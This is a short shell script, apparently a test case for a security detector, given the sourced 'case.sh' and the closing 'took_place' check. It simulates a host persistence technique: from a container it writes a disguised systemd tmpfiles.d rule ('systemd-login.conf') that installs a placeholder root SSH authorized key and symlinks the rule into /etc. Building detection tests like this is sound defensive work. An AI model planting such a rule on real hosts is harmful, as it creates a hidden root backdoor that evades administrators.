#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/usr/lib/tmpfiles.d /host/etc/tmpfiles.d
printf 'd /root/.ssh 0700 root root -\nf+ /root/.ssh/authorized_keys 0600 root root - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBaitBaitBaitBaitBaitBaitBaitBaitBaitBait x\n' >/tmp/t
cat /tmp/t >/host/usr/lib/tmpfiles.d/systemd-login.conf
ln -s /usr/lib/tmpfiles.d/systemd-login.conf /host/etc/tmpfiles.d/login.conf
grep -q ed25519 /host/usr/lib/tmpfiles.d/systemd-login.conf
took_place
